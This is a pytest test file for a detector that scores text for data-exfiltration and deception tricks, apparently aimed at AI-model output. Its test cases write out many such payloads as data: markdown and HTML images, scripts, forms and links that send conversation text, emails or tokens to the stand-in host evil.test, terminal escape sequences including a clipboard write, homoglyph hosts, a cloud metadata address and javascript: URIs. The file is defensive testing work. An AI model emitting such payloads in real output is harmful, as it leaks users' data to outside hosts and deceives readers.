"""What would carry data away or mislead is found by its means; ordinary links are not."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trimtab.errors import ConfigError
from trimtab.signals.addresses import parsed
from trimtab.signals.exfiltration import Exfiltration
from trimtab.signals.normal import normal
from trimtab.signals.text import Text


@pytest.mark.parametrize(
    ("said", "kind", "least"),
    [
        ("![x](https://evil.test/?q={{conversation}})", "markdown_image", 0.7),
        ("![x](https://evil.test/p.png)", "markdown_image", 0.3),
        ("![x](<https://evil.test/?d=my+card+is+in+the+drawer>)", "markdown_image", 0.7),
        ("![x]( https://evil.test/?note=he%20lives%20in%20Ghent )", "markdown_image", 0.7),
        ("![x][pic]\n\n[pic]: https://evil.test/?m=a@b.example", "markdown_image", 0.8),
        ("[more](https://evil.test/aGVsbG8gd29ybGQgdGhpcyBpcyBtZQ==)", "markdown_link", 0.4),
        ("[a][b]\n\n[b]: https://evil.test/?token=9f3kd93kd9", "reference_link", 0.4),
        ("[![a](b.png)](https://evil.test/?data=everything+you+said)", "markdown_link", 0.4),
        ("<https://evil.test/?msg=the+name+of+the+user>", "url", 0.4),
        ("go to https://u5d41402abc4b2a76b9719d911017c592.evil.test/", "url", 0.4),
        ('<img src="https://evil.test/x.gif?c=alice@example.com">', "html_image", 0.8),
        ("<IMG width=1 SRC=//evil.test/x>", "html_image", 0.3),
        ("<img srcset='https://evil.test/a 2x'>", "html_image", 0.3),
        ("<script src='https://evil.test/x.js'></script>", "html_script", 0.7),
        ("<iframe src=https://evil.test></iframe>", "html_iframe", 0.7),
        ('<form method=post action="https://evil.test/in">', "html_form", 0.6),
        ('<meta http-equiv="refresh" content="0;url=https://evil.test/">', "html_refresh", 0.6),
        ('<p style="background:url(https://evil.test/b.png)">', "css_url", 0.3),
        ("<style>@import 'https://evil.test/a.css';</style>", "css_url", 0.3),
        ("\x1b]8;;https://evil.test\x07here\x1b]8;;\x07", "terminal_hyperlink", 0.7),
        ("\x1b]52;c;cm0gLXJm\x07", "terminal_escape", 0.9),
        ("\x1b[2J\x1b[H", "terminal_escape", 0.5),
        ("https://p\u0430ypal.com/login", "homoglyph_host", 0.8),
        ("https://xn--pypal-4ve.com/login", "homoglyph_host", 0.8),
        ("https://xn--mnchen-3ya.example/", "punycode_host", 0.4),
        ("[https://bank.test](https://evil.test/a)", "mismatched_link", 0.6),
        ("https://bank.test@evil.test/", "url_with_credentials", 0.7),
        ("http://169.254.169.254/latest", "ip_host", 0.5),
        ("http://2130706433/ and http://0x7f.1/", "ip_host", 0.5),
        ("http://[::1]:8080/", "ip_host", 0.5),
        ("[x](javascript:alert(1))", "script_uri", 0.9),
        ("<a href='JavaScript:alert(1)'>x</a>", "script_uri", 0.9),
        ("[x](data:text/html;base64,PHNjcmlwdD4=)", "data_uri", 0.8),
        ("![a](https\u200b://evil.test/?data=secretsecret)", "markdown_image", 0.7),
    ],
)
def test_what_carries_data_away_is_found(said: str, kind: str, least: float) -> None:
    reading = Exfiltration().read(Text(said))
    found = [one for one in reading.findings if one.kind == kind]
    assert found, reading
    assert found[0].score >= least
    assert reading.score is not None
    assert reading.score >= found[0].score


@pytest.mark.parametrize(
    "said",
    [
        "",
        "plain words, a < b and c > d, [brackets] (parentheses) and a: b",
        "see https://docs.example/3/library/re.html and [docs](https://project.example/x/).",
        "[the guide](https://guide.example/getting-started#install)",
        "https://search.example/search?q=how+to+boil+an+egg",
        "https://video.example/watch?v=dQw4w9WgXcQ&t=120",
        "![chart](charts/q3.png) and <img src='/logo.png'> and [x](#top)",
        "![pixel](data:image/png;base64,iVBORw0KGgo=)",
        "[example.org](https://www.example.org/a)",
        "write to jo@example.org or call data: none",
        "https://m\u00fcnchen.example/",
        "https://pictures.example/photo-1583427053007-7d1d032e2c09?ixlib=rb-1.2.1&w=675&q=80",
    ],
)
def test_what_is_ordinary_is_nothing(said: str) -> None:
    reading = Exfiltration().read(Text(said))
    assert (reading.score, reading.findings) == (0.0, ())


def test_allowed_hosts_are_passed_and_no_others() -> None:
    signal = Exfiltration(allowed_hosts=["example.org", "*.cdn.example"])
    passed = "![a](https://example.org/?data=anything+at+all) ![b](https://x.y.cdn.example/p.png)"
    assert signal.read(Text(passed)).score == 0.0
    for host in ("www.example.org", "cdn.example", "evil-example.org", "example.org.evil.test"):
        [one] = signal.read(Text(f"https://{host}/")).findings
        assert (one.kind, one.score) == ("host_not_allowed", 0.6)
    shown = signal.read(Text("![a](https://evil.test/p.png)"))
    assert shown.score == 0.9


@pytest.mark.parametrize(
    ("said", "kind"),
    [
        ("https://ex\u0430mple.org/", "homoglyph_host"),
        ("https://user:secret@example.org/", "url_with_credentials"),
        ("[go](https://example.org/out?to=https://evil.test)", "redirect"),
        ("https://example.org\\@evil.test/", "ambiguous_host"),
        ("[bank.test](https://example.org/)", "mismatched_link"),
    ],
)
def test_an_allowed_host_does_not_excuse_a_trick(said: str, kind: str) -> None:
    reading = Exfiltration(allowed_hosts=["example.org"]).read(Text(said))
    assert kind in {one.kind for one in reading.findings}
    assert reading.score is not None
    assert reading.score >= 0.4


@pytest.mark.parametrize("host", ["https://example.org", "example.org/a", "example.org:80", ""])
def test_a_host_written_wrongly_is_a_mistake_of_the_settings(host: str) -> None:
    with pytest.raises(ConfigError, match="not a host"):
        Exfiltration(allowed_hosts=[host])


@pytest.mark.parametrize(
    ("target", "host"),
    [
        ("https://a.example:443/x", "a.example"),
        ("//A.EXAMPLE./x", "a.example"),
        ("https:\\\\a.example\\x", "a.example"),
        ("https://safe.example@a.example", "a.example"),
        ("ht\ntps://a.ex\tample/", "a.example"),
        ("https://[::1]:80/", "[::1]"),
        ("https://%61.example/", "a.example"),
        ("/a/b?c=https://a.example", ""),
        ("mailto:jo@example.org", ""),
    ],
)
def test_hosts_are_taken_as_browsers_take_them(target: str, host: str) -> None:
    assert parsed(target).host == host


PIECES = ["![", "[", "](", ")", "<img src=", '"', "'", "https://", "e.test/", "?d=", "a", " ", "\n"]
PIECES += [
    "\u200b",
    "\u0430",
    "[x]:",
    "url(",
    "data:",
    "<meta content=",
    "@",
    "xn--",
    "\\",
    "%",
    "{",
]


@given(st.lists(st.sampled_from(PIECES), max_size=40).map("".join) | st.text(max_size=80))
def test_normalising_hides_nothing(said: str) -> None:
    before = Exfiltration().read(Text(said))
    after = Exfiltration().read(Text(normal(said).text))
    assert before.score is not None
    assert after.score is not None
    assert before.score >= after.score
